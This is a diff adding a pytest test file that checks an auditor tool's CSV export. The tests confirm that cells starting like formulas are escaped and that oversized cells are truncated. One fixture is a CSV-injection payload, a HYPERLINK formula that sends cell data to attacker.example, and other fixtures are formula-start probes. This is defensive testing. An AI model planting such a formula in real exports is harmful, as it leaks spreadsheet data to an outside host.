@@ -1,0 +1,68 @@
+"""findings.csv as a spreadsheet reads it: no formulas from cluster data, no cell beyond Excel's limit."""
+
+from __future__ import annotations
+
+import csv
+import json
+from pathlib import Path
+
+import pytest
+
+from auditor.engine import AuditResult
+from auditor.model import Finding, Severity, Status
+from auditor.render import csv_out, json_out
+from tests.test_render_html_pdf import audit_scene, with_findings
+
+FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"click")'
+LONG_MESSAGE = "sidecar still injected; " * 2_000  # 48,000 characters
+
+
+@pytest.fixture(scope="module")
+def result(tmp_path_factory: pytest.TempPathFactory) -> AuditResult:
+    base = audit_scene(tmp_path_factory.mktemp("scene"))
+    extra = [
+        Finding(Status.FAIL, "cluster-a", FORMULA, severity=Severity.MAJOR, gate="uninstall",
+                check_id="istio-residue", kind="ConfigMap", namespace="ops", name="@SUM(1+1)",
+                remediation="-2+3", title="Istio residue"),
+        Finding(Status.WARN, "cluster-a", LONG_MESSAGE, severity=Severity.MINOR, gate="uninstall",
+                check_id="istio-residue", kind="ConfigMap", namespace="ops", name="long-notes",
+                title="Istio residue"),
+    ]
+    return with_findings(base, extra)
+
+
+def read_rows(path: Path) -> list[dict[str, str]]:
+    csv.field_size_limit(1 << 24)
+    with path.open(newline="", encoding="utf-8") as fh:
+        return list(csv.DictReader(fh))
+
+
+def test_cells_that_would_run_as_formulas_are_text(result: AuditResult, tmp_path: Path) -> None:
+    rows = read_rows(csv_out.render(result, tmp_path))
+    (row,) = [r for r in rows if r["name"].endswith("@SUM(1+1)")]
+    assert row["message"] == "'" + FORMULA
+    assert row["name"] == "'@SUM(1+1)" and row["remediation"] == "'-2+3"
+    # Ordinary cells are untouched, and findings.json keeps the exact values.
+    assert row["check_id"] == "istio-residue" and row["namespace"] == "ops"
+    doc = json.loads(json_out.render(result, tmp_path).read_text(encoding="utf-8"))
+    assert FORMULA in {f["message"] for f in doc["findings"]}
+    assert not any(cell.startswith(csv_out._FORMULA_START) for r in rows for cell in r.values())
+
+
+def test_cells_stop_at_excels_limit_and_say_where_the_rest_is(result: AuditResult, tmp_path: Path) -> None:
+    rows = read_rows(csv_out.render(result, tmp_path))
+    assert len(rows) == len(result.findings)  # one record per finding, nothing spilled into extra rows
+    (row,) = [r for r in rows if r["name"] == "long-notes"]
+    assert len(row["message"]) <= csv_out.CELL_LIMIT
+    assert row["message"].startswith(LONG_MESSAGE[:1000])
+    hidden = len(LONG_MESSAGE) - len(row["message"].split("\u2026 [")[0])
+    assert row["message"].endswith(f"[{hidden:,} more characters in findings.json]")
+    assert max(len(cell) for r in rows for cell in r.values()) <= csv_out.CELL_LIMIT
+
+
+def test_plain_audits_are_written_as_they_are(tmp_path: Path) -> None:
+    result = audit_scene(tmp_path / "scene")
+    rows = read_rows(csv_out.render(result, tmp_path))
+    frame = result.findings
+    assert [r["message"] for r in rows] == frame["message"].tolist()
+    assert [r["name"] for r in rows] == frame["name"].fillna("").tolist()
